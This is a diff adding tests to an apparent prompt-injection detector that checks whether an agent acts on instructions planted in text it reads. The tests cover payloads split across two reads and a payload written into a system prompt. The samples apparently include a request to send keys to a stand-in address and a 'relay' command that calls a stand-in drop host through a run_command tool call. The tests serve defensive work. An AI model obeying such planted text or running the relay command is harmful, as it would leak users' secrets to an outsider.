@@ -146,6 +146,14 @@ describe('whose words are payloads', () => {
     expect(watch([{ ...info, info: { repository: 'other' } }, TASK, rules]).spans).toHaveLength(1);
     expect(watch([info, TASK, rules], { isAuthorised: () => false }).spans).toHaveLength(1);
   });
+
+  test('a system prompt that a case wrote into is as any other text', () => {
+    const prompt: Draft = { ...asks(PAYLOAD), channel: 'control' };
+    const finding = watch([prompt, TASK, OBEYED], { isTainted: () => true });
+    expect(finding.spans).toHaveLength(1);
+    expect(finding.status).toBeDefined();
+    expect(watch([prompt, TASK, OBEYED]).status).toBeUndefined();
+  });
 });
 
 test('a payload split over two reads', () => {
@@ -153,6 +161,29 @@ test('a payload split over two reads', () => {
   const finding = watch([TASK, reads(`${REVIEW}\n${PAYLOAD.slice(0, at)}`), reads(PAYLOAD.slice(at)), OBEYED]);
   expect(finding.status).toBeDefined();
   expect(finding.acts[0]!.carries).toMatch(/tolo\.wene|keys/);
+});
+
+test('what two reads share of a payload does not hide the rest of it', () => {
+  const first = PAYLOAD.slice(0, PAYLOAD.indexOf('you must'));
+  const next = PAYLOAD.slice(first.length);
+  const real = new SpanFinder(MODEL);
+  const [known] = real.find(PAYLOAD);
+  // Across the break, all but the last forty characters of the second text are taken for the payload.
+  const find = (text: string) => {
+    if (text === first) return [];
+    return [{ ...known!, start: text === next ? 10 : 0, end: text === next ? next.length : text.length - 40 }];
+  };
+  const finder = { tail: 1, find } as unknown as SpanFinder;
+  const { spans } = watch([TASK, reads(first), reads(next)], {}, { finder });
+  expect(spans.map(({ start, end, text }) => [start, end, text])).toEqual([[0, next.length, next]]);
+});
+
+test('an address counts as one inside a longer phrase in quotation marks', () => {
+  const text = PAYLOAD.replace('tolo.wene@example.net', '`relay --now https://drop.example.net/in-7731/q`');
+  const act = calls('run_command', 'relay --now https://drop.example.net/in-7731/q');
+  const seen: { strongValue: number }[] = [];
+  watch([TASK, reads(`${REVIEW}\n\n${text}`), act], {}, { onEvidence: (one) => seen.push(one) });
+  expect(seen.some(({ strongValue }) => strongValue === 1)).toBe(true);
 });
 
 test('a span of ten megabytes is bounded in what is kept, and its values are found', () => {
